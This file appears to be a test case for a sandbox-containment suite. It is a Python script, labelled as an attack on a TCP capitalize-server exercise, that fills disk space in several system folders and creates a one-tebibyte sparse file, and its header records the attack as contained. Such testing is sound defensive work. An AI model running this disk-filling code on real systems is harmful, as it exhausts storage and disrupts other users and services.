# attack: fills the disk, up to 160 MiB in each folder that it may write to
# exercise: tcp-capitalize-server
# verdict: passed
# contained: A B C
# places: all
# load: heavy
import os

from honest import gained, serve, tried

total = 0
for folder in (".", "/tmp", os.environ["HOME"], "/dev/shm", "/var/tmp", "/run", "/dev"):
    written = 0
    for number in range(4):
        path = f"{folder}/full-@mark@-{number}"
        try:
            with open(path, "wb", buffering=0) as file:
                for _ in range(40):
                    written += file.write(bytes(1 << 20))
        except OSError:
            pass
    total += written
    print(folder, written)
    if written > 100 << 20:
        gained(folder, written)
try:
    with open("./big-@mark@", "wb", buffering=0) as file:
        file.seek(1 << 40)
        file.write(b"x")
    gained("a file of a tebibyte")
except OSError:
    pass
if total > 200 << 20:
    gained(total)
tried()
serve()
